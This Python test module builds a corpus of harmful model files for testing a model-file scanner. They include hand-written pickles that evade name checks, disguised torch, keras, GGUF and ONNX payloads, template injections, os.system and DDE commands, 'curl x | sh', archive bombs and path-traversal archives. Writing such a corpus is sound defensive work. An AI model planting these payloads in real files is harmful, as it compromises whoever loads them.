# ruff: noqa: E501 - tables read best with an entry a line
"""Files of models for the tests and the benchmark: harmful ones in many dresses, and honest ones.

Every harmful file would leave a canary behind if anything loaded it: a folder at the path that the corpus
was made with. Building one runs nothing. The same call gives the same bytes but for what zip and gzip stamp.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import torch

RUNS, BOMB, ESCAPE = "executable_content", "archive_bomb", "path_escape"

# Ways to run something that lists of dangerous names have missed, and functions beside what is allowed.
UNUSUAL = (
    "importlib.import_module marshal.loads mailcap.findmatch runpy.run_path code.interact operator.attrgetter"
    " functools.partial types.CodeType numpy.load torch.load torch.hub.load pandas.read_pickle"
    " webbrowser.open cProfile.run ctypes.CDLL shutil.rmtree sklearn.datasets.fetch_openml"
    " sklearn.utils._testing.assert_run_python_script numpy.testing._private.utils.runstring joblib.load"
    " logging.config.fileConfig"
)


@dataclass(frozen=True)
class Harmful:
    name: str  # the file's name as it is sent
    data: bytes
    fault: str = RUNS


class Canary:
    """Makes a folder when it is loaded."""

    def __init__(self, path: str, function: Callable = os.mkdir) -> None:
        self.path, self.function = path, function

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, (self.path,)


def zipped(entries: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def tarred(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _saved(save: Callable, *arguments: Any, **options: Any) -> bytes:
    out = io.BytesIO()
    save(*arguments, out, **options)
    return out.getvalue()


def _numpy(save: Callable, *arguments: Any, **options: Any) -> bytes:
    out = io.BytesIO()
    save(out, *arguments, **options)
    return out.getvalue()


def _text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


# -- harmful, opcode by opcode --------------------------------------------------------------------------
def hand_written(path: str) -> dict[str, bytes]:
    """Pickles that no library writes: ways to hide a name from somebody who only looks for it."""
    argument = _text(path) + b"\x85"
    call = argument + b"R."
    bad = pickle.dumps(Canary(path), 2)
    plain = pickle.dumps({"weights": [1.0, 2.0]}, 4)
    line = f"(S'{path}'\n".encode()
    return {
        "memo.pkl": b"\x80\x04" + _text("posix") + b"\x94" + _text("mkdir") + b"\x9400h\x00h\x01\x93" + call,
        "memo_far.pkl": b"\x80\x04" + _text("mkdir") + b"r\x00\x10\x00\x000" + _text("posix")
        + b"j\x00\x10\x00\x00\x93" + call,
        "duplicate.pkl": b"\x80\x04" + _text("posix") + b"2q\x050" + _text("mkdir") + b"\x93" + call,
        "instance.pkl": line + b"iposix\nmkdir\n.",
        "object.pkl": b"(cposix\nmkdir\n" + line[1:] + b"o.",
        "new.pkl": b"\x80\x02cposix\nmkdir\n" + argument + b"\x81.",
        "new_with_names.pkl": b"\x80\x04cposix\nmkdir\n" + argument + b"}\x92.",
        "extension.pkl": b"\x80\x02\x82\x07" + call,
        "written_with_escapes.pkl": rb"S'\x70osix'" + b"\n" + rb"S'mk\x64ir'" + b"\n\x93" + call,
        "unicode_escapes.pkl": rb"V\u0070osix" + b"\n" + rb"Vmkdir" + b"\n\x93" + call,
        "put_together.pkl": b"\x80\x04" + b"\x8c\x05a b c" + _text("mkdir") + b"\x93" + call,
        "dotted.pkl": b"\x80\x04" + _text("collections") + _text("OrderedDict.fromkeys.__self__.__reduce__")
        + b"\x93)R.",
        "attribute_of_allowed.pkl": b"\x80\x04" + _text("collections") + _text("abc.sys.modules") + b"\x93.",
        "chained.pkl": b"\x80\x04cbuiltins\ngetattr\ncbuiltins\n__import__\n" + _text("posix") + b"\x85R"
        + _text("mkdir") + b"\x86R" + call,
        "changed_class.pkl": b"\x80\x04ctorch.nn.modules.linear\nLinear\n}" + _text("forward")
        + b"Nsb.",
        "second_of_two.pkl": plain + bad,
        "second_after_old.pkl": pickle.dumps([1, 2], 0) + pickle.dumps(Canary(path), 0),
        "cut_behind_the_call.pkl": bad[: bad.index(b"R") + 1],
        "cut_behind_the_name.pkl": b"\x80\x04" + _text("posix") + _text("mkdir") + b"\x93",
        "garbled_behind.pkl": bad[: bad.index(b"R") + 1] + b"\xff\xfe\xfd" * 20,
        "underflow_behind.pkl": bad[: bad.index(b"R") + 1] + b"eeee.",
        "long_mark.pkl": b"\x80\x04" + b"(" * 2000 + bad[2:],
        "popped_away.pkl": bad[:-1] + b"0N.",
        "from_argument.pkl": b"\x80\x04\x8c\x05posixX\x05\x00\x00\x00mkdir\x93" + call,
        "old_strings.pkl": b"U\x05posixU\x05mkdir\x93" + call,
        "carriage_return.pkl": b"cposix\nmkdir\n(S'" + path.encode() + b"'\ntR.",
        "cut_off_weights.pkl": pickle.dumps(list(range(500)), 4)[:300],
    }  # fmt: skip


def harmful(canary: Path | str) -> list[Harmful]:
    """Every dress of the corpus; ``canary`` is the folder that loading one would make."""
    path = str(canary)
    bad = pickle.dumps(Canary(path), 4)
    state = {"weight": torch.zeros(2, 2), "extra": Canary(path)}
    array = np.array([Canary(path), 1], dtype=object)
    files = {
        **{f"protocol_{p}.pkl": pickle.dumps({"a": [1, "b"], "bad": Canary(path)}, p) for p in range(6)},
        **hand_written(path),
        "array.npy": _numpy(np.save, array, allow_pickle=True),
        "arrays.npz": _numpy(np.savez, ok=np.ones(3), bad=array),
        "packed_arrays.npz": _numpy(np.savez_compressed, ok=np.ones(3), bad=array),
        "model.joblib": _saved(joblib.dump, {"x": np.ones((3, 4)), "y": Canary(path)}),
        "inside_array.joblib": _saved(joblib.dump, {"x": np.ones(30), "y": array, "z": np.ones(3)}),
        "renamed.csv": bad,
        "no_ending": bad,
        "in_a_zip.zip": zipped({"readme.txt": b"hello", "model/weights.bin": bad}),
        "deflated.zip": zipped({"model/weights.pkl": bad}, zipfile.ZIP_DEFLATED),
        "nested.zip": zipped({"a.zip": zipped({"b.zip": zipped({"c.dat": bad}, 8)}, 8)}, 8),
        "in_a_tar.tar": tarred({"model/data.pkl": bad}),
        "in_a_tar.tar.gz": gzip.compress(tarred({"model/data.pkl": bad}), mtime=0),
        "packed.pkl.gz": gzip.compress(bad, mtime=0),
        "packed_twice.pkl": gzip.compress(bz2.compress(bad), mtime=0),
        "packed.pkl.bz2": bz2.compress(bad),
        "packed.pkl.xz": lzma.compress(bad),
        "packed.pkl": zlib.compress(bad),
        "second_member.pkl.gz": gzip.compress(pickle.dumps([1], 4), mtime=0) + gzip.compress(bad, mtime=0),
        "old_names.pkl": b"c__builtin__\neval\n(S'1'\ntR.",
        "own_class.pkl": b"\x80\x04c__main__\nNet\n)\x81}b.",
        "own_package.pt": zipped({"m/data.pkl": b"\x80\x02cmypackage.model\nNet\n)\x81.", "m/version": b"3"}),
        "torch.pt": _saved(torch.save, state),
        "torch_old.pt": _saved(torch.save, state, _use_new_zipfile_serialization=False),
        "wrong_checksum.pt": _broken_zip(path, "checksum"),
        "encrypted_flag.pt": _broken_zip(path, "flags"),
        "two_names.pt": _broken_zip(path, "name"),
        "no_directory.pt": _broken_zip(path, "directory"),
        "shifted.pt": b"\0" * 100 + zipped({"archive/data.pkl": bad, "archive/version": b"3\n"}),
        "program.pt2": zipped({
            "p/archive_format": b"pt2", "p/archive_version": b"0", "p/models/model.json": b"{}",
            "p/data/sample_inputs/model.pt": b"\x80\x02cposix\nmkdir\n(X" + struct.pack("<I", len(path))
            + path.encode() + b"tRctorch._utils\n_rebuild_tensor_v2\n0.",
        }),
        "tensor_in_pickle.pkl": b"\x80\x04ctorch.storage\n_load_from_bytes\nB"
        + struct.pack("<I", len(bad)) + bad + b"\x85R.",
        "tensor_as_text.pkl": _load_from_text(bad),
        "layers.keras": keras_zip("Lambda"),
        "foreign_class.keras": keras_zip("system", module="os"),
        "layers.h5": hdf5("Lambda"),
        "pickled.h5": b"\x89HDF\r\n\x1a\n" + bytes(500) + bad + bytes(500),
        "table.parquet": parquet(bad),
        "step.onnx": onnx(operation="PyOp", domain="ai.onnx.contrib"),
        "own_step.onnx": onnx(operation="Custom", domain="my.company"),
        "template.gguf": gguf("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        "attribute_template.gguf": gguf("{{ x|attr('__cl' ~ 'ass__') }}"),
        "program.pt": b"\x7fELF" + bytes(60) + b"x" * 200,
        "compiled.pt2": zipped({"p/archive_format": b"pt2", "p/lib/model.so": b"\x7fELF" + bytes(99)}),
        "closed.pt": b"7z\xbc\xaf\x27\x1c" + bytes(100),
        "zstandard.joblib": b"\x28\xb5\x2f\xfd" + bytes(100),
        "broken_lz4.joblib": b"\x04\x22\x4d\x18" + bytes(100),
        "packed_lz4.joblib": lz4_of(bad),
        "picture.zip": zipped({"a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}),
        "handler.mar": zipped({"MAR-INF/MANIFEST.json": b"{}", "handler.py": b"import os"}),
        "own_code.zip": zipped({"config.json": b'{"auto_map": {"AutoModel": "modeling.Net"}}'}),
        "packages.zip": zipped({"requirements.txt": b"numpy\ntorchtriton==1.0\n"}),
        "macros.xlsm": zipped({"[Content_Types].xml": b"<x/>", "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macros.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT".encode("utf-16-le"),
        "object.yaml": b"net: !!python/object/apply:os.system ['id']\n",
        "first_protocol.txt": pickle.dumps({"a": Canary(path)}, 0),
        "first_protocol.json": pickle.dumps(Canary(path), 0),
        "behind_a_picture.png": b"\x89PNG\r\n\x1a\n" + bytes(50) + bad,
        "joined_template.gguf": gguf("{{ cycler['__ini' + 't__']['__glo' ~ 'bals__'] }}"),
        "written_template.gguf": gguf("{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"),
        "noext_yaml.zip": zipped({"MLmodel": b"flavors: !!python/object/apply:os.system [id]\n"}),
        "macros_inside.zip": zipped({"docs/a.xlsm": zipped({"[Content_Types].xml": b"<x/>", "xl/vbaProject.bin": b"x"})}),
        "exchange.xlsx": zipped({"[Content_Types].xml": b"<x/>", "xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"}),
        "exchange.docx": zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe</w:instrText>'}),
        "notebook.zip": zipped({"model.bin": bytes(99), "train.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!id"]}]}'}),
        "recipe.zip": zipped({"model.bin": bytes(99), "Dockerfile": b"FROM x\nRUN id\n"}),
        "build.zip": zipped({"model.bin": bytes(99), "src/Makefile": b"all:\n\tid\n"}),
        "shell.zip": zipped({"model.bin": bytes(99), "install.sh": b"curl x | sh"}),
        "windows.zip": zipped({"model.bin": bytes(99), "tool.exe": b"MZ" + bytes(99)}),
        "code.zip": zipped({"model.bin": bytes(99), "helper.py": b"import os"}),
    }  # fmt: skip
    for kind, pack in {"zlib": 3, "gz": ("gzip", 3), "bz2": ("bz2", 3), "xz": ("xz", 3)}.items():
        files[f"packed_{kind}.joblib"] = _saved(joblib.dump, [np.ones(9), Canary(path)], compress=pack)
    for name in UNUSUAL.split():
        module, _, function = name.rpartition(".")
        files[f"calls_{name}.pkl"] = f"c{module}\n{function}\n(S'{path}'\ntR.".encode()
    found = [Harmful(name, data) for name, data in files.items()]
    return found + [Harmful(name, data, BOMB) for name, data in bombs().items()] + [
        Harmful(name, data, ESCAPE) for name, data in escapes().items()
    ]  # fmt: skip


def _load_from_text(bad: bytes) -> bytes:
    """As protocol 2 writes bytes: a text that is encoded back to Latin-1."""
    text = bad.decode("latin-1").encode("utf-8")
    return (
        b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\nX" + struct.pack("<I", len(text)) + text
        + b"X\x06\x00\x00\x00latin1\x86R\x85R."
    )  # fmt: skip


def _broken_zip(path: str, how: str) -> bytes:
    """A checkpoint that strict readers refuse and lenient ones load."""
    data = bytearray(zipped({"archive/data.pkl": pickle.dumps(Canary(path), 2), "archive/version": b"3\n"}))
    central = data.index(b"PK\x01\x02")
    if how == "checksum":
        data[central + 16] ^= 0xFF
        data[14] ^= 0xFF
    elif how == "flags":
        data[central + 8] |= 1
        data[6] |= 1
    elif how == "name":
        data[30:38] = b"ARCHIVE/"
    else:
        del data[central:]
    return bytes(data)


def keras_zip(kind: str, module: str = "keras.layers") -> bytes:
    config = {
        "module": "keras", "class_name": "Sequential",
        "config": {"layers": [
            {"module": "keras.layers", "class_name": "Dense", "config": {"units": 3, "activation": "relu"}},
            {"module": module, "class_name": kind, "config": {"function": {"class_name": "__lambda__"}}},
        ]},
    }  # fmt: skip
    if kind == "Dense":
        config["config"]["layers"].pop()  # type: ignore[index]
    return zipped({
        "metadata.json": b'{"keras_version": "3.3.3"}', "config.json": json.dumps(config).encode(),
        "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(2000),
    })  # fmt: skip


def hdf5(kind: str) -> bytes:
    """The bytes around a model_config attribute; nothing here parses HDF5, so no more of it is needed."""
    config = {
        "class_name": "Sequential",
        "config": {"layers": [{"class_name": kind, "config": {"name": "x"}}]},
    }
    return b"\x89HDF\r\n\x1a\n" + bytes(300) + b"model_config\0" + json.dumps(config).encode() + bytes(2000)


def lz4_of(data: bytes) -> bytes:
    """An LZ4 frame of literals alone, as the format allows."""
    rest = len(data) - 15
    block = b"\xf0" + b"\xff" * (rest // 255) + bytes([rest % 255]) + data
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(block)) + block + bytes(4)


def linked_hdf5(file: str) -> bytes:
    """A link message to a dataset of another file, as h5py writes it."""
    told = b"\0" + file.encode() + b"\0/x\0"
    message = b"\x01\x08\x40\x04link" + struct.pack("<H", len(told)) + told
    return b"\x89HDF\r\n\x1a\n" + bytes(300) + message + bytes(300)


def parquet(bad: bytes) -> bytes:
    """A Parquet file whose Arrow schema has a pickled column type."""
    schema = (
        b"\0" * 40
        + b"ARROW:extension:name\0arrow.py_extension_type\0ARROW:extension:metadata"
        + bad
        + b"\0" * 30
    )
    footer = b"\x15\x04ARROW:schema\x18" + base64.b64encode(schema) + b"\0"
    return b"PAR1" + bytes(50) + footer + struct.pack("<I", len(footer)) + b"PAR1"


def _field(number: int, value: bytes | int) -> bytes:
    def varint(n: int) -> bytes:
        out = b""
        while n > 0x7F:
            out, n = out + bytes([n & 0x7F | 0x80]), n >> 7
        return out + bytes([n])

    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def onnx(operation: str = "Relu", domain: str = "", location: str = "") -> bytes:
    node = _field(1, b"x") + _field(2, b"y") + _field(4, operation.encode()) + _field(7, domain.encode())
    tensor = _field(1, 2) + _field(2, 1) + _field(8, b"w")
    if location:
        tensor += _field(13, _field(1, b"location") + _field(2, location.encode())) + _field(14, 1)
    else:
        tensor += _field(9, bytes(8))
    graph = _field(1, node) + _field(2, b"graph") + _field(5, tensor)
    return _field(1, 8) + _field(2, b"tests") + _field(7, graph) + _field(8, _field(2, 17))


def gguf(template: str, tensors: int = 1, place: int = 0, pairs: int | None = None) -> bytes:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    body = text("general.architecture") + struct.pack("<I", 8) + text("llama")
    body += text("tokenizer.chat_template") + struct.pack("<I", 8) + text(template)
    body += text("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 2) + text("a") + text("b")
    body += text("tokenizer.ggml.scores") + struct.pack("<IIQ2f", 9, 6, 2, 0.0, 1.0)
    names = b"".join(text(f"t{i}") + struct.pack("<IQIQ", 1, 4, 0, place) for i in range(tensors))
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, 4 if pairs is None else pairs) + body + names + bytes(64)


def safetensors(header: dict[str, Any] | bytes, data: bytes = b"", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def bombs() -> dict[str, bytes]:
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    zeros = zipped({f"{i}.pkl": bytes(64 * 2**20) for i in range(2)}, zipfile.ZIP_DEFLATED)
    deep = zipped({"x": b"x"})
    for _ in range(9):
        deep = zipped({"in.zip": deep})
    return {
        "zeros.zip": zeros,
        "zeros.pkl.gz": gzip.compress(bytes(120 * 2**20), mtime=0),
        "zeros.pkl.bz2": bz2.compress(bytes(120 * 2**20)),
        "zeros.pkl.xz": lzma.compress(bytes(120 * 2**20), preset=0),
        "ten_deep.zip": deep,
        "overlap.zip": _overlapping(),
        "header_of_2_63.safetensors": safetensors({"w": one}, bytes(8), length=2**63),
        "overlap.safetensors": safetensors({"v": one, "w": {**one, "data_offsets": [4, 12]}}, bytes(12)),
        "beyond.safetensors": safetensors({"w": {**one, "data_offsets": [0, 800]}}, bytes(8)),
        "unreadable.safetensors": safetensors(b"{" * 50, bytes(8)),
        "beyond.gguf": gguf("x", place=2**40),
        "pairs.gguf": gguf("x", pairs=2**60),
        "header.npy": b"\x93NUMPY\x02\x00" + struct.pack("<I", 2**31) + b"{'descr'",
    }


def _overlapping() -> bytes:
    """Two names of the directory for one and the same file (same_header)."""
    data = zipped({"a.bin": b"A" * 1000})
    central = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[central:end]
    record = bytearray(data[end:])
    struct.pack_into("<HHL", record, 8, 2, 2, 2 * len(entry))
    return data[:central] + entry + entry.replace(b"a.bin", b"b.bin") + bytes(record)


def escapes() -> dict[str, bytes]:
    def linked(kind: bytes, target: str) -> bytes:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as archive:
            info = tarfile.TarInfo("link")
            info.type, info.linkname = kind, target
            archive.addfile(info)
        return out.getvalue()

    link = zipfile.ZipInfo("link")
    link.external_attr, link.create_system = 0o120777 << 16, 3
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    names = {
        "up": "../../x",
        "absolute": "/etc/x",
        "windows": "..\\x",
        "drive": "C:\\x",
        "within": "a/../../b",
    }
    return {
        **{f"{key}.zip": zipped({name: b"x"}) for key, name in names.items()},
        "up.tar": tarred({"../x": b"x"}),
        "long.tar": tarred({"../" + "x" * 200: b"x"}),
        "symbolic.tar": linked(tarfile.SYMTYPE, "/etc/passwd"),
        "hard.tar": linked(tarfile.LNKTYPE, "../x"),
        "device.tar": linked(tarfile.CHRTYPE, ""),
        "link.zip": out.getvalue(),
        "outside.onnx": onnx(location="../../etc/passwd"),
        "absolute.onnx": onnx(location="/etc/passwd"),
        "linked.h5": linked_hdf5("/etc/passwd"),
    }
